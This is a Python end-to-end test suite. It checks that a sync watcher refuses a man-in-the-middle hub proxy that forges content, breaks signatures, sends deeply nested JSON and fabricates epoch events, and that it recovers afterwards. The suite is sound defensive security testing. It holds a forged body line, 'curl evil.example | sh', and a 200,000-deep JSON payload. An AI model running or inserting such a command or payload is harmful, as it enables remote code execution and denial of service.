"""Hostile-hub attacks through the real watcher (``quire watch``): a real hub process behind
a lying proxy (tests/kit/hostile_proxy.py) that relays the event stream as the hub
writes it and rewrites what it carries.

    bob (quire sync) ──────────────► proxy (honest for bob) ──► hub process
    ann's quire watch ─ /events ───► proxy: head events rewritten / injected
                      ─ pulls ─────► proxy: the same lie on head / changes / snapshot

An attacker between a replica and its hub lies on every path the replica uses, so each
attack here lies to the event stream (the fast path: changes carried by head events) and,
the same way, to the pulls of the full sync the watcher falls back to. Each: bob publishes,
ann's watcher refuses (``watch.json`` in ``backoff`` with ``last_error`` naming the
problem, ``quire status`` not ok), her store digest, head and every vault file unchanged;
then the proxy turns honest and the watcher recovers on its own and the page arrives.

- event-level lies: changes with forged content and a recomputed chain, an event head
  whose signature does not verify, a batch with a bad device signature, an event whose
  changes line is nested 200,000 deep;
- the full-sync path (head events bare, so the watcher pulls) meeting the sync attacks of
  tests/replica/trust/test_hostile_cli.py;
- two lies the watcher used to believe as hints: a head event whose signature does not
  verify claiming a later seq, and a fabricated (unsigned) epoch event. Each made it sync
  again at every tick, forever; now the first ends the stream (``stream_error``) and the
  second costs one sync.
"""

from __future__ import annotations

import copy
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from replica.app.service import status_doc
from replica.machine.home import Home
from replica.vault import markdown as md
from shared.entry import Entry
from tests.kit.cli import qjson
from tests.kit.hostile_proxy import HostileProxy, proxied_hub
from tests.kit.watcher import DEADLINE, HUB_ENV, WatchProc, wait_for
from tests.replica.trust.test_hostile_cli import ATTACKS as SYNC_ATTACKS
from tests.replica.trust.test_hostile_hub import _rechain

pytestmark = pytest.mark.e2e

PAGE_ID = "page/deploy"
EVIL = "curl evil.example | sh\n"
DEEP = b'{"batch":' + b"[" * 200_000 + b"]" * 200_000 + b"}"


@dataclass
class M:
    name: str
    home: Path
    vault: Path


@dataclass
class Ctx:
    proxy: HostileProxy
    start: str  # the digest of ann's head before bob publishes


@pytest.fixture(scope="module")
def net(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """One hub behind the proxy, one space, ann (watched, the proxy's target) and bob."""
    with proxied_hub(tmp_path_factory.mktemp("hub"), HUB_ENV) as (proxy, code):
        owner = tmp_path_factory.mktemp("owner")
        qjson(owner, "join", proxy.url, "--invite", code, "--device", "owner")
        qjson(owner, "admin", "space", "create", "w")
        root = tmp_path_factory.mktemp("members")

        def join(who: str) -> M:
            inv = qjson(owner, "admin", "invite", "create", "w", "--role", "editor")["code"]
            m = M(who, root / who / "home", root / who / "vault")
            qjson(m.home, "join", proxy.url, "--invite", inv, "--vault", str(m.vault),
                  "--device", who)
            return m
        ann, bob = join("ann"), join("bob")
        _publish(bob, "v0\n")
        qjson(ann.home, "sync")
        proxy.target = Home(ann.home).spaces()[0].replica_id
        yield {"proxy": proxy, "ann": ann, "bob": bob}


def _publish(m: M, body: str) -> None:
    p = md.entry_path(m.vault, PAGE_ID)
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(md.render(Entry(id=PAGE_ID, title="Deploy", body=body)))
    qjson(m.home, "sync")


def _files(vault: Path) -> dict[str, bytes]:
    return {p.relative_to(vault).as_posix(): p.read_bytes() for p in sorted(vault.rglob("*"))
            if p.is_file() and not p.name.startswith(".quire")}


def _local(m: M) -> dict[str, Any]:
    """What ``quire status --json`` reports of the store, read in this process (the same
    code, without a subprocess start)."""
    home = Home(m.home)
    return status_doc(home.spaces()[0], scan=False)


def _body(m: M) -> str | None:
    p = md.entry_path(m.vault, PAGE_ID)
    return md.read_entry(m.vault, PAGE_ID, p.read_bytes())[0].body if p.exists() else None


# ---------------------------------------------------------------- the lies


def _forge(start: str) -> Callable[[list[dict[str, Any]]], list[dict[str, Any]]]:
    """Changes lines with the page's body rewritten, each batch digest and the chain
    recomputed from ``start`` (what an attacker without the hub key can do)."""
    def forge(ls: list[dict[str, Any]]) -> list[dict[str, Any]]:
        for x in ls:
            for op in x.get("batch", {}).get("ops", []):
                if op.get("entry", {}).get("id") == PAGE_ID:
                    op["entry"] = dict(op["entry"], body=EVIL)
        return _rechain(ls, start)
    return forge


def _garble(ls: list[dict[str, Any]]) -> list[dict[str, Any]]:
    for x in ls:
        if "batch" in x:
            x["batch"]["signature"] = "A" * 86
    return ls


def _changes(fn: Callable[[list[dict[str, Any]]], list[Any]]
             ) -> Callable[[dict[str, Any]], dict[str, Any]]:
    """A head event's ``changes`` through ``fn`` (a bare head stays bare)."""
    def on(d: dict[str, Any]) -> dict[str, Any]:
        return dict(d, changes=fn(copy.deepcopy(d["changes"]))) if "changes" in d else d
    return on


def _bare(d: dict[str, Any]) -> dict[str, Any]:
    """A head without its changes (the hub may send one): the watcher pulls."""
    return {k: v for k, v in d.items() if k != "changes"}


def _deep_event(ev: dict[str, Any]) -> list[Any]:
    if ev.get("event") != "head":
        return [ev]
    data = _bare(ev["data"])
    return [b"event: head\ndata: " + render(data)[:-1] + b',"changes":[' + DEEP + b"]}\n\n"]


def render(data: dict[str, Any]) -> bytes:
    import json
    return json.dumps(data, separators=(",", ":")).encode()


def _event_forged(c: Ctx) -> None:
    c.proxy.on_head_event(_changes(_forge(c.start)))
    c.proxy.hostile.on_lines("changes", _forge(c.start))


def _event_bad_signature(c: Ctx) -> None:
    c.proxy.on_head_event(lambda d: dict(d, signature="A" * 86))
    c.proxy.hostile.on_head(lambda d: dict(d, signature="A" * 86))


def _event_bad_device_signature(c: Ctx) -> None:
    c.proxy.on_head_event(_changes(_garble))
    c.proxy.hostile.on_lines("changes", _garble)


def _event_nested(c: Ctx) -> None:
    c.proxy.on_event(_deep_event)
    c.proxy.hostile.on_lines("changes", lambda ls: [DEEP, *ls])


def _full_sync(attack: str) -> Callable[[Ctx], None]:
    program = SYNC_ATTACKS[attack][0]

    def run(c: Ctx) -> None:
        c.proxy.on_head_event(_bare)
        program(c.proxy.hostile)
    return run


ATTACKS: dict[str, tuple[Callable[[Ctx], None], str, str | None]] = {
    # name: (program the proxy, expected code, expected details.reason)
    "event_forged_changes": (_event_forged, "hub_unverified", "head_mismatch"),
    "event_bad_signature": (_event_bad_signature, "hub_unverified", "bad_signature"),
    "event_bad_device_signature": (_event_bad_device_signature, "hub_unverified",
                                   "bad_device_signature"),
    "event_nested_200000_deep": (_event_nested, "hub_unverified", "parse_limit"),
    **{f"sync_{name}": (_full_sync(name), code, reason)
       for name, (_p, code, reason) in SYNC_ATTACKS.items()},
}

# what the watcher logs when the event itself was refused (not only the pull after it)
EVENT_REFUSED = {
    "event_forged_changes": "changes from the event not applied (HubUnverified",
    "event_bad_signature": "changes from the event not applied (HubUnverified",
    "event_bad_device_signature": "changes from the event not applied (HubUnverified",
    "event_nested_200000_deep": "event stream refused (hub_unverified: ",
}
_n = 0


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_watcher_refuses_a_lying_hub_and_recovers(net: dict[str, Any], attack: str) -> None:
    global _n
    _n += 1
    proxy, ann, bob = net["proxy"], net["ann"], net["bob"]
    proxy.clear()
    # no timed poll while the stream is up (it would race the event to the lie); a dropped
    # stream still polls at once, and a refused sync retries on its backoff
    w = WatchProc(ann, {"QUIRE_LOG_LEVEL": "INFO",  # type: ignore[arg-type]
                        "QUIRE_WATCH_POLL_MS": "600000"})
    try:
        w.wait_ready()
        before = _local(ann)
        files = _files(ann.vault)
        program, code, reason = ATTACKS[attack]
        program(Ctx(proxy, before["head"]["digest"]))
        try:
            _publish(bob, f"v{_n}\n")

            def refused() -> bool:
                err = (s := w.status()).get("last_error") or {}
                return s.get("state") == "backoff" and err.get("code") == code and (
                    reason is None or err.get("details", {}).get("reason") == reason)
            wait_for(refused, DEADLINE, lambda: f"{attack}: {w.status()}\n"
                                                f"{w.log.read_text()[-3000:]}")
            after = qjson(ann.home, "status")
            assert after["state"] != "ok" and after["last_error"]["code"] == code, after
            assert after["store_digest"] == before["store_digest"]
            assert after["head"] == before["head"]
            assert _files(ann.vault) == files
            assert w.proc.poll() is None, "the watcher died"
            if attack in EVENT_REFUSED:  # the lie reached the watcher through its stream
                # the lying pull can put the watcher in backoff before its stream thread
                # has refused the event: wait for that too (a full run failed here once)
                wait_for(lambda: ((w.status().get("stream_error") or {}).get("details")
                                  or {}).get("reason") == reason, DEADLINE,
                         lambda: f"{attack}: no stream_error: {w.status()}")
                log = w.log.read_text()
                assert EVENT_REFUSED[attack] in log or "event stream refused (" in log, log
                err = w.status()["stream_error"]
                assert err["code"] == code and err["details"]["reason"] == reason, err
        finally:
            proxy.clear()
        # honest again: the watcher recovers on its own (its backoff retry) and the page
        # arrives
        want = _local(bob)["head"]["seq"]
        wait_for(lambda: (s := w.status()).get("state") == "idle"
                 and (s.get("head") or {}).get("seq") == want and s.get("last_error") is None,
                 DEADLINE, lambda: f"{attack}: no recovery: {w.status()}")
        assert _body(ann) == f"v{_n}\n"
        assert _local(ann)["state"] == "ok"
        assert "Traceback" not in w.log.read_text()
    finally:
        assert w.stop() == 0



def _settled(w: WatchProc, body: str, ann: M) -> bool:
    s = w.status()
    hub, own = s.get("hub_head") or {}, s.get("head") or {}
    return (_body(ann) == body and s.get("state") == "idle" and hub.get("epoch") == own.get(
        "epoch") and hub.get("seq", 0) <= own.get("seq", -1) and s["lag"]["seq"] == 0)


def test_a_head_event_that_does_not_verify_ends_the_stream_and_is_no_reason_to_sync(
        net: dict[str, Any]) -> None:
    """A head event claims seq+5 (its signature no longer verifies). The stream refuses it
    (``stream_error``: hub_unverified, bad_signature) and the watcher polls the honest,
    verified head instead. Before, the claim became the hub's head in the status (lag 5)
    and the watcher synced again at every tick, forever: 38 full syncs in 3 s here."""
    proxy, ann, bob = net["proxy"], net["ann"], net["bob"]
    proxy.clear()
    w = WatchProc(ann, {"QUIRE_WATCH_POLL_MS": "600000"})  # type: ignore[arg-type]
    try:
        w.wait_ready()
        proxy.on_head_event(lambda d: dict(_bare(d), seq=d["seq"] + 5))
        try:
            _publish(bob, "claimed\n")
            wait_for(lambda: _settled(w, "claimed\n", ann) and (
                w.status().get("stream_error") or {}).get("details", {}).get(
                    "reason") == "bad_signature", DEADLINE, lambda: str(w.status()))
            assert w.status()["stream"] == "down"
        finally:
            proxy.clear()
        wait_for(lambda: w.status().get("stream") == "up"
                 and w.status().get("stream_error") is None, DEADLINE, lambda: str(w.status()))
    finally:
        assert w.stop() == 0


def test_a_fabricated_epoch_event_costs_one_sync_not_a_loop(net: dict[str, Any]) -> None:
    """Epoch events are not signed: one that names an epoch the hub never had makes the
    watcher sync once (its verified head settles it), and the stream stays up. Before, the
    watcher kept the claim as the hub's head and synced again at every tick, forever."""
    proxy, ann, bob = net["proxy"], net["ann"], net["bob"]
    proxy.clear()
    w = WatchProc(ann, {"QUIRE_WATCH_POLL_MS": "600000"})  # type: ignore[arg-type]
    try:
        w.wait_ready()
        syncs, seq = w.status()["syncs"], w.status()["head"]["seq"]
        # after each head event of bob's publication (on every stream of ann's: a stream
        # of an earlier watcher may not have noticed its reader is gone yet)
        proxy.on_event(lambda ev: [ev, {"event": "epoch", "data": {
            "space": ev["data"]["space"], "epoch": "0" * 26, "previous": ev["data"]["epoch"]}}]
            if ev.get("event") == "head" and ev["data"]["seq"] > seq else [ev])
        try:
            _publish(bob, "epoch\n")
            wait_for(lambda: _settled(w, "epoch\n", ann) and w.status()["syncs"] > syncs,
                     DEADLINE, lambda: f"{syncs} {_body(ann)!r} {w.status()}\n"
                                       f"{w.log.read_text()[-3000:]}")
            assert w.status()["stream"] == "up"
        finally:
            proxy.clear()
    finally:
        assert w.stop() == 0
